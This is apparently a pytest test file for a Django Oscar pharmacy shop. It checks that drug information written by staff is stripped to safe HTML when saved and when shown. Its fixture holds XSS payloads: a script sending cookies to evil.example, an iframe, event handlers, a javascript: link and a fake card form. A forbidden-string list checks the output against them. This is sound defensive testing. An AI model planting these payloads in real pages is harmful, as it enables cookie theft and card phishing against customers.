"""Drug information written by staff is cut down to safe HTML when saved and when shown:
a product editor cannot put scripts, frames, forms or disguised links on customers' pages."""

from __future__ import annotations

import pytest
from oscar.core.loading import get_model

from tests.factories import product

ProductAttribute = get_model("catalogue", "ProductAttribute")
ProductAttributeValue = get_model("catalogue", "ProductAttributeValue")

pytestmark = pytest.mark.django_db

HOSTILE = (
    "<h2>Take with food</h2><p>Swallow <strong>whole</strong>, <em>never</em> <b>chew</b> or <i>crush</i>.<br>"
    "Ask us.</p><ul><li>Once a day</li></ul><ol><li>Morning</li></ol>"
    '<p><a href="https://www.fda.gov/drugs">FDA</a> <a href="mailto:pharmacist@example.com">write</a></p>'
    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<iframe src="https://evil.example/login"></iframe>'
    '<img src="x" onerror="alert(1)">'
    '<p onclick="alert(2)">Click</p>'
    '<a href="javascript:alert(3)">Refill here</a>'
    '<form action="https://evil.example/card"><input name="card"><button>Pay</button></form>'
    '<a href="http://evil.example/pharmacy">Our pharmacy</a>'
)
# What the payloads would leave behind (the page itself has its own <script src> and forms).
FORBIDDEN = (
    "document.cookie",
    "<iframe",
    'src="x"',
    "onerror",
    "onclick",
    "javascript:",
    "evil.example",
    'name="card"',
    "<button>Pay",
)


def _assert_safe_and_kept(html: str) -> None:
    for bad in FORBIDDEN:
        assert bad not in html, bad
    if "<html" not in html:  # the stored value itself: no tag outside the allow-list at all
        for tag in ("<script", "<form", "<input", "<img", "<button"):
            assert tag not in html, tag
    for kept in (
        "<h2>Take with food</h2>",
        "<strong>whole</strong>",
        "<em>never</em>",
        "<b>chew</b>",
        "<i>crush</i>",
        "<br>",
        "<li>Once a day</li>",
        "<ol>",
        '<a href="https://www.fda.gov/drugs" rel="noopener noreferrer">FDA</a>',
        '<a href="mailto:pharmacist@example.com" rel="noopener noreferrer">write</a>',
    ):
        assert kept in html, kept


def _uses_value(drug):
    attribute = ProductAttribute.objects.get(product_class=drug.get_product_class(), code="uses")
    return attribute, ProductAttributeValue.objects.filter(product=drug, attribute=attribute)


def test_hostile_drug_information_is_cleaned_when_saved_and_safe_on_the_product_page(client, demo_shop):
    drug = product("RX-ISO-20")
    drug.attr.uses = HOSTILE  # oscar's own save path, as the dashboard form uses it
    drug.attr.save()
    _attribute, values = _uses_value(drug)
    _assert_safe_and_kept(values.get().value_richtext)

    response = client.get(drug.get_absolute_url())
    assert response.status_code == 200
    page = response.content.decode()
    _assert_safe_and_kept(page)


def test_drug_information_saved_by_any_path_is_cleaned(demo_shop):
    """The admin and the demo loader save the value object directly: the same rule applies."""
    drug = product("RX-ISO-20")
    attribute, values = _uses_value(drug)
    values.delete()
    ProductAttributeValue.objects.create(product=drug, attribute=attribute, value_richtext=HOSTILE)
    _assert_safe_and_kept(values.get().value_richtext)


def test_drug_information_stored_without_cleaning_is_still_cleaned_on_the_page(client, demo_shop):
    """A value written before this rule, or straight into the database, never reaches a page raw."""
    drug = product("RX-ISO-20")
    _attribute, values = _uses_value(drug)
    values.update(value_richtext=HOSTILE)  # no signal: as a raw SQL write would
    page = client.get(drug.get_absolute_url()).content.decode()
    _assert_safe_and_kept(page)
